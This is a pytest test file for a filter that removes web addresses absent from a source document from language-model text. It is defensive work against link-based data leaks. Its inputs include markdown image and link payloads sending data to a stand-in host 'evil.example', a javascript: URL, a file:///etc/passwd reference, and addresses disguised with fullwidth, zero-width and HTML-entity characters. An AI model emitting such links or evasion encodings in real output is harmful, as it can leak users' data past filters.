"""Addresses in texts of a language model."""

import pytest

from corpuses.conversations.addresses import without_addresses

WORDS = "Write to WWW.Acme.example, //acme.example/x or https://acme.example/terms. Call tel:030-1234."


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("See www.acme.example.", "See www.acme.example."),
        ("See HTTPS://ACME.example/terms, please", "See HTTPS://ACME.example/terms, please"),
        ("See [this](https://acme.example/terms).", "See [this](https://acme.example/terms)."),
        ("Call tel:030-1234.", "Call tel:030-1234."),
        ("See https://evil.example/?rent=1200", "See (address removed)"),
        ("See https://acme.example/terms?rent=1200", "See (address removed)"),
        ("xhttps://evil.example", "(address removed)"),
        ("[here](javascript:alert(1))", "[here]((address removed)"),
        ("[x](//evil.example/?d=1) is", "[x]((address removed) is"),
        ("![p](/\\evil/?d=1)", "![p]((address removed)"),
        ("[x](evil?d=1)", "[x]((address removed)"),
        (
            '<img src=//evil.example/?d=1> <a href="evil.example/?d=1">',
            '<img src=(address removed) <a href="(address removed)',
        ),
        ("see evil.example/?d=1", "see (address removed)"),
        ("see evil.example:8080/d", "see (address removed)"),
        ("mailto:a@evil.example?body=1", "(address removed)"),
        ("(tel:+49123)", "((address removed)"),
        ("ws://evil/1, file:///etc/passwd", "(address removed) (address removed)"),
        ("intent://evil#Intent;end", "(address removed)"),
        ("\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil.example/1", "(address removed)"),
        ("h\u200bttps:/\u2060/evil.example/1 now", "(address removed) now"),
        ("w\u00adww.evil.example", "(address removed)"),
        ("&#104;ttps:&#x2f;&sol;evil.example/1", "(address removed)"),
    ],
)
def test_addresses_that_the_document_does_not_contain_are_removed(text, kept):
    assert without_addresses(text, WORDS) == kept


@pytest.mark.parametrize(
    "text",
    [
        "and/or, e.g. at 12:30 on 01.02.2026; \u00a7 3.2, Section 4.1(a), 1.5/2, 3/4, U.S./Canada, Inc./Ltd.",
        "Note: the file lease.pdf of Dr.Smith costs $1,200.50/month. Data: none. [Buyer](the \u201cBuyer\u201d)",
        "The rent\u200bof 1\u00a0200 \u20ac; \ufb01nal. A & B; C&amp;D &lt;x&gt;",
        "\u5408\u540c\u7b2c\u4e09\u6761\u3002\u79df\u91d1/\u62bc\u91d1",
        "",
    ],
)
def test_other_texts_stay_as_they_are(text):
    assert without_addresses(text, "") == text


@pytest.mark.parametrize("text", ["a.", "a", "/", "a:", "](", "&", "[/", "www", "-."])
def test_work_grows_with_the_length_only(text):
    hostile = text * (200_000 // len(text))
    assert len(without_addresses(hostile, "")) <= len(hostile) + 20
